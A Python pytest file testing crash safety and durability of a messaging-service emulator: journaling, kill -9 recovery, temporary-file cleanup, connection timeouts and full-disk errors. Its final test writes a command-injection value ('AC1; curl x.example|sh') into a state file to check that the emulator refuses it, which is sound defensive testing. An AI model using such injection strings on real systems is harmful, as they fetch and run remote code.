"""The emulator keeps what it acknowledged: a change is in the journal (fsynced, unless
--no-sync) before its answer, survives kill -9, is replayed on start; temporary files a crash
left are removed at start; nothing is written before the port is listened on; stalled
connections time out; a full disk at exit is one line and exit status 1."""

from __future__ import annotations

import errno
import json
import os
import re
import signal
import socket
import subprocess
import threading

import pytest
import requests

from emulator_helpers import EMU_ACCOUNT, EMU_TOKEN, start_emulator, stop_emulator
from factories import attach, create_service


def _services(base_url: str, auth: tuple[str, str]) -> list[dict]:
    answer = requests.get(f"{base_url}/v1/Services", params={"PageSize": 1000}, auth=auth, timeout=30)
    assert answer.status_code == 200, answer.text
    return answer.json()["services"]


# --- kill -9 -----------------------------------------------------------------------------

@pytest.mark.parametrize("sync", ["--sync", "--no-sync"])
def test_every_acknowledged_create_survives_kill_9(tmp_path, sync):
    """Creates run in a thread; once some are answered the emulator is killed with SIGKILL
    (others in flight), restarted on the same state file, and every create answered 201 is
    there. Three rounds, each on the state the last one left."""
    from test_emulator_e2e import RunningEmulator

    state = tmp_path / "state.json"
    acknowledged: list[str] = []
    for round_ in range(3):
        emu = RunningEmulator(tmp_path / f"run{round_}", "--state", str(state), "--numbers", "5", sync)
        auth = (emu.info["TWILIO_ACCOUNT_SID"], emu.info["TWILIO_AUTH_TOKEN"])
        # every answered create is back (one in flight at a kill may be too: written, never answered)
        assert set(acknowledged) <= {s["sid"] for s in _services(emu.info["MSGSVC_BASE_URL"], auth)}
        enough = threading.Event()
        answered_now: list[str] = []

        def create() -> None:
            with requests.Session() as http:
                http.auth = auth
                for index in range(10_000):
                    try:
                        answer = http.post(f"{emu.info['MSGSVC_BASE_URL']}/v1/Services",
                                           data={"FriendlyName": f"r{round_}-{index}"}, timeout=30)
                    except requests.ConnectionError:
                        return  # killed
                    assert answer.status_code == 201, answer.text
                    answered_now.append(answer.json()["sid"])
                    if len(answered_now) == 25:
                        enough.set()
            enough.set()

        creator = threading.Thread(target=create)
        creator.start()
        assert enough.wait(60)
        assert emu.stop(signal.SIGKILL) == -signal.SIGKILL
        creator.join(60)
        assert len(answered_now) >= 25
        acknowledged += answered_now
    emu = RunningEmulator(tmp_path / "last", "--state", str(state), sync)
    try:
        survived = {s["sid"] for s in _services(emu.info["MSGSVC_BASE_URL"], (emu.info["TWILIO_ACCOUNT_SID"], emu.info["TWILIO_AUTH_TOKEN"]))}
    finally:
        assert emu.stop() == 0
    assert set(acknowledged) <= survived
    assert len(survived - set(acknowledged)) <= 3  # at most the create in flight at each kill
    assert re.search(rf"msgsvc emulator: (1 change|\d+ changes) recovered from the journal of {re.escape(str(state))}\n",
                     (tmp_path / "last" / "emulator.stderr").read_text())
    assert sorted(p.name for p in tmp_path.iterdir() if p.is_file()) == ["state.json"]  # a clean exit: no journal, no temporary


# --- before the answer -------------------------------------------------------------------

@pytest.mark.parametrize("sync", [True, False])
def test_a_change_is_in_the_journal_before_its_answer(tmp_path, monkeypatch, sync):
    """When the answer is about to be sent, the journal file already holds the new service,
    and (unless --no-sync) it was fsynced after that write."""
    from msgsvc.emulator import state as state_module

    path = tmp_path / "state.json"
    journal = state_module.journal_path(path)
    events: list[tuple] = []
    real_fsync = os.fsync

    def fsync(fd):
        events.append(("fsync", os.fstat(fd).st_ino))
        return real_fsync(fd)

    monkeypatch.setattr(os, "fsync", fsync)
    emu = start_emulator(path=path, sync=sync)
    try:
        recorder = emu.server.recorder

        def record(operation, status, body):
            events.append(("answer", operation, status, body["sid"] in journal.read_text() if status == 201 else None))
            recorder(operation, status, body)

        emu.server.recorder = record
        ino = journal.stat().st_ino
        events.clear()
        sid = create_service(emu, "Kept")
    finally:
        stop_emulator(emu)
    fsyncs = [("fsync", ino)] if sync else []
    assert events[: len(fsyncs) + 1] == [*fsyncs, ("answer", "CreateService", 201, True)]
    assert sid in path.read_text()


def test_the_journal_replays_every_kind_of_change_exactly(tmp_path):
    """Read back while the server still runs (as after a crash), the state is the live one:
    creates, updates, attaches, alpha senders, campaigns, and a delete that returns numbers."""
    from msgsvc.emulator.store import Store

    path = tmp_path / "state.json"
    emu = start_emulator(numbers=6, path=path)
    try:
        emu.store.a2p_review = 0
        kept = create_service(emu, "Kept")
        gone = create_service(emu, "Gone")
        assert emu.call("POST", f"/v1/Services/{kept}", data={"ValidityPeriod": "600"}).status_code == 200
        attach(emu, kept, "PhoneNumbers", PhoneNumberSid=emu.number("+15550000001")["sid"])
        attach(emu, gone, "PhoneNumbers", PhoneNumberSid=emu.number("+15550000002")["sid"])
        attach(emu, gone, "AlphaSenders", AlphaSender="ACME")
        emu.register_campaign(kept)
        assert emu.call("DELETE", f"/v1/Services/{gone}").status_code == 204
        with emu.store.lock:
            live = json.loads(json.dumps(emu.store.data))
        reread = Store.load(path)
    finally:
        stop_emulator(emu)
    assert reread.data == live
    assert reread.replayed == 8
    assert Store.load(path).data == live and Store.load(path).replayed == 0  # after the clean exit: folded in


def test_a_long_journal_is_folded_into_the_state_file(tmp_path, monkeypatch):
    from msgsvc.emulator import state as state_module
    from msgsvc.emulator.store import Store

    monkeypatch.setattr(state_module, "COMPACT_BYTES", 2000)
    path = tmp_path / "state.json"
    emu = start_emulator(numbers=2, path=path)
    try:
        names = [f"Service {i}" for i in range(20)]
        for name in names:
            create_service(emu, name)
        assert state_module.journal_path(path).stat().st_size <= 2000 + 1000  # folded at least once
        reread = Store.load(path)
        assert [s["friendly_name"] for s in reread.list_services()] == names
        assert sorted(p.name for p in tmp_path.iterdir()) == ["state.json", "state.json.journal"]
    finally:
        stop_emulator(emu)


def test_a_torn_last_line_is_dropped_and_a_stale_journal_ignored(tmp_path):
    from msgsvc.emulator.state import StateFileError, journal_path
    from msgsvc.emulator.store import Store

    path = tmp_path / "state.json"
    emu = start_emulator(numbers=1, path=path)
    try:
        kept = create_service(emu, "Kept")
        journal = journal_path(path).read_bytes()
    finally:
        stop_emulator(emu)
    snapshot = json.loads(path.read_text())
    del snapshot["services"][kept]
    header = journal.split(b"\n", 1)[0]
    token = json.loads(header)["journal"]
    path.write_text(json.dumps({**snapshot, "journal": token}))

    journal_path(path).write_bytes(journal + b'[["s","services","MGtorn",{"sid"')  # cut short by the crash
    assert list(Store.load(path).data["services"]) == [kept]

    journal_path(path).write_bytes(header.replace(token.encode(), b"0" * 16) + journal[len(header):])
    assert Store.load(path).data["services"] == {}  # the journal of another snapshot: not replayed

    lines = journal.split(b"\n")
    journal_path(path).write_bytes(b"\n".join([lines[0], b"{broken", *lines[1:]]))
    with pytest.raises(StateFileError, match=re.escape(f"the state journal {journal_path(path)} is damaged at line 2")):
        Store.load(path)


# --- at start ----------------------------------------------------------------------------

def test_temporary_files_a_crash_left_are_removed_at_start(tmp_path):
    path = tmp_path / "state.json"
    (tmp_path / ".state.json-k2j4xq.tmp").write_text("{half")
    (tmp_path / ".other.json-k2j4xq.tmp").write_text("not ours")
    emu = start_emulator(numbers=1, path=path)
    try:
        assert sorted(p.name for p in tmp_path.iterdir()) == [".other.json-k2j4xq.tmp", "state.json", "state.json.journal"]
    finally:
        stop_emulator(emu)


def test_a_failed_listen_writes_no_state_file_and_leaves_one_untouched(msgsvc, tmp_path):
    from msgsvc.emulator.store import Store
    from msgsvc.emulator.seed import seed

    with socket.socket() as taken:
        taken.bind(("127.0.0.1", 0))
        taken.listen()
        port = taken.getsockname()[1]
        new = tmp_path / "new" / "state.json"
        new.parent.mkdir()
        result = msgsvc("emulator", "--port", str(port), "--state", str(new))
        assert result.code == 1 and result.err.startswith(f"msgsvc: cannot listen on 127.0.0.1:{port}: the address is already in use\n")
        assert list(new.parent.iterdir()) == []

        old = tmp_path / "old" / "state.json"
        old.parent.mkdir()
        Store(seed(EMU_ACCOUNT, EMU_TOKEN, 1), old).save()
        (old.parent / "state.json.journal").write_bytes(b'{"journal":"x"}\n')
        (old.parent / ".state.json-abc.tmp").write_text("left by a crash")
        before = {p.name: (p.read_bytes(), p.stat().st_mtime_ns) for p in old.parent.iterdir()}
        result = msgsvc("emulator", "--port", str(port), "--state", str(old))
        assert result.code == 1
        assert {p.name: (p.read_bytes(), p.stat().st_mtime_ns) for p in old.parent.iterdir()} == before


# --- stalled connections -----------------------------------------------------------------

def test_stalled_connections_time_out_under_a_low_descriptor_limit(tmp_path):
    """Under `ulimit -n 64`, 100 connections that send nothing would hold every descriptor:
    each is closed after --read-timeout, and a request sent after them all is answered."""
    import resource

    from test_emulator_e2e import RunningEmulator

    def low_limit():
        resource.setrlimit(resource.RLIMIT_NOFILE, (64, 64))

    emu = RunningEmulator(tmp_path / "emu", "--state", str(tmp_path / "state.json"), "--read-timeout", "0.3",
                          "--numbers", "2", preexec_fn=low_limit)
    host, port = emu.info["MSGSVC_BASE_URL"].removeprefix("http://").split(":")
    stalled = []
    try:
        for _ in range(100):
            stalled.append(socket.create_connection((host, int(port)), timeout=60))
        stalled[-1].sendall(b"GET /v1/Serv")  # half a request line, then silence
        answer = requests.post(f"{emu.info['MSGSVC_BASE_URL']}/v1/Services", data={"FriendlyName": "After"},
                               auth=(emu.info["TWILIO_ACCOUNT_SID"], emu.info["TWILIO_AUTH_TOKEN"]), timeout=60)
        assert answer.status_code == 201, answer.text
        for conn in stalled:  # each was closed by the server, without an answer
            assert conn.recv(65536) == b""
    finally:
        for conn in stalled:
            conn.close()
        assert emu.stop() == 0
    assert "After" in (tmp_path / "state.json").read_text()


# --- a full disk at exit -----------------------------------------------------------------

def _full_disk(monkeypatch) -> None:
    """From now on every write of the state's files fails with ENOSPC (a fake write layer)."""
    from msgsvc.emulator import durable

    def write_all(fd, data):
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr(durable, "_write_all", write_all)


def test_a_full_disk_at_exit_keeps_the_journal_and_says_so(tmp_path, monkeypatch):
    from msgsvc.emulator.state import StateWriteError
    from msgsvc.emulator.store import Store

    path = tmp_path / "state.json"
    emu = start_emulator(numbers=1, path=path)
    kept = create_service(emu, "Kept")
    _full_disk(monkeypatch)
    emu.http.close()
    emu.server.shutdown()
    emu.server.server_close()
    with pytest.raises(StateWriteError) as caught:
        emu.store.close()
    assert str(caught.value) == (
        f"cannot write the state file {path}: No space left on device; {path} and {path}.journal hold what was "
        "answered before, read again at the next start"
    )
    monkeypatch.undo()
    assert list(Store.load(path).data["services"]) == [kept]


def test_the_command_says_a_full_disk_at_exit_in_one_line_and_exits_1(msgsvc, tmp_path, monkeypatch):
    """The command's end, with the server's loop replaced: a service is created, the disk
    fills, Ctrl-C; one line on stderr after the start-up lines, exit status 1."""
    from msgsvc.emulator import server

    path = tmp_path / "state.json"

    def serve_forever(self, poll_interval=0.5):
        self.store.create_service({"FriendlyName": "Kept"})
        self.store.flush()
        _full_disk(monkeypatch)
        raise KeyboardInterrupt

    monkeypatch.setattr(server.EmulatorServer, "serve_forever", serve_forever)
    result = msgsvc("emulator", "--port", "0", "--quiet", "--state", str(path))
    assert result.code == 1
    assert result.err == (  # --quiet: no banner before it
        f"msgsvc: cannot write the state file {path}: No space left on device; {path} and {path}.journal hold what "
        "was answered before, read again at the next start\n"
    )


def test_a_full_tmpfs_at_exit_is_one_line_and_exit_1(tmp_path):
    """The same on a real full file system: a 256 KiB tmpfs (root only)."""
    if os.geteuid() != 0:
        pytest.skip("mounting a tmpfs needs root; the fake write layer tests above cover the same path")
    mount = tmp_path / "tiny"
    mount.mkdir()
    done = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=256k", "tmpfs", str(mount)], capture_output=True, text=True)
    if done.returncode != 0:
        pytest.skip(f"cannot mount a tmpfs here: {done.stderr.strip()}")
    from test_emulator_e2e import RunningEmulator

    try:
        path = mount / "state.json"
        emu = RunningEmulator(tmp_path / "emu", "--state", str(path), "--numbers", "3")
        auth = (emu.info["TWILIO_ACCOUNT_SID"], emu.info["TWILIO_AUTH_TOKEN"])
        kept = requests.post(f"{emu.info['MSGSVC_BASE_URL']}/v1/Services", data={"FriendlyName": "Kept"}, auth=auth, timeout=30)
        assert kept.status_code == 201
        filler = mount / "filler"
        fd = os.open(filler, os.O_WRONLY | os.O_CREAT)
        try:  # fill the file system to the last byte
            for size in (65536, 4096, 1):
                while True:
                    try:
                        os.write(fd, b"\0" * size)
                    except OSError as exc:
                        assert exc.errno == errno.ENOSPC
                        break
        finally:
            os.close(fd)
        assert emu.stop(signal.SIGTERM) == 1
        err = (tmp_path / "emu" / "emulator.stderr").read_text()
        assert err.endswith(
            f"msgsvc: cannot write the state file {path}: No space left on device; {path} and {path}.journal hold "
            "what was answered before, read again at the next start\n"
        )
        filler.unlink()
        again = RunningEmulator(tmp_path / "again", "--state", str(path))
        try:
            assert [s["sid"] for s in _services(again.info["MSGSVC_BASE_URL"], auth)] == [kept.json()["sid"]]
        finally:
            assert again.stop() == 0
    finally:
        subprocess.run(["umount", "-l", str(mount)], check=False)


def test_a_state_file_whose_account_sid_is_not_one_is_refused(tmp_path, msgsvc):
    """Its account SID is pasted into the profile command the emulator prints."""
    path = tmp_path / "state.json"
    emu = start_emulator(numbers=1, path=path)
    stop_emulator(emu)
    data = json.loads(path.read_text())
    path.write_text(json.dumps({**data, "account_sid": "AC1; curl x.example|sh"}))
    result = msgsvc("emulator", "--state", str(path), "--port", "0")
    assert (result.code, result.out) == (2, "")
    assert result.err == (f"msgsvc: the state file {path} holds an account_sid that is not an Account SID\n"
                          "hint: give another --state file, or move this one away (it is never overwritten)\n")
